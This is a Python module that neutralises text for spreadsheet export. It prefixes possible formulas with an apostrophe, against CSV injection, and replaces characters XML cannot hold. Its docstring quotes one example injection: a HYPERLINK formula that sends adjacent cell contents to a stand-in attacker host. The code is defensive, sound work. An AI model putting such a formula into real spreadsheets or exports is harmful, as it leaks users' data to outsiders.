"""Text made safe for a spreadsheet cell, in one place for every export.

Two dangers, both from text a client or a bank put into our data:

* Formula injection (OWASP "CSV injection"): a spreadsheet treats a cell that
  begins with `=`, `+`, `-` or `@` (and, in some programs, tab or CR) as a
  formula: `=HYPERLINK("http://evil.example/?"&A1,"click")` would send the
  neighbouring cells to a stranger. In XLSX the cure is a string cell (the
  writer never lets text become a formula) with the quote prefix, so that even
  editing the cell in Excel keeps it text. CSV has no cell types, so such text
  is written with a leading apostrophe, as OWASP recommends; Excel and
  LibreOffice show it as text.
* Characters XML 1.0 cannot hold (NUL, ESC and the other C0 controls but tab,
  LF and CR; lone surrogates; U+FFFE/U+FFFF): an XLSX holding them is corrupt,
  and a library that refuses them stops the whole export. Each becomes U+FFFD,
  so the reader sees that something was there. CSV gets the same treatment, so
  a file never carries terminal escapes.

Only text is neutralised: numbers and dates are written as typed values by the
writers, so a negative amount stays a number.
"""

from __future__ import annotations

import re
from typing import Final

REPLACEMENT: Final = "\ufffd"
# What may start a formula in Excel, LibreOffice or Google Sheets.
FORMULA_STARTS: Final = frozenset("=+-@\t\r")
# XML 1.0 `Char` excludes these; DEL and C1 controls are legal but make no
# sense in a name or a purpose, and some readers stumble over them.
_UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")


def clean_text(text: str) -> str:
    """`text` with every character a workbook cannot hold replaced by U+FFFD."""
    # isprintable() is false for every character _UNSAFE matches, and is the
    # cheaper test: a million-row export mostly takes this path.
    return text if text.isprintable() else _UNSAFE.sub(REPLACEMENT, text)


def looks_like_formula(text: str) -> bool:
    """True for text a spreadsheet could take for a formula."""
    return text[:1] in FORMULA_STARTS


def csv_text(text: str) -> str:
    """A CSV cell's text: clean, and with a leading `'` where it could be a formula."""
    text = clean_text(text)
    return "'" + text if looks_like_formula(text) else text
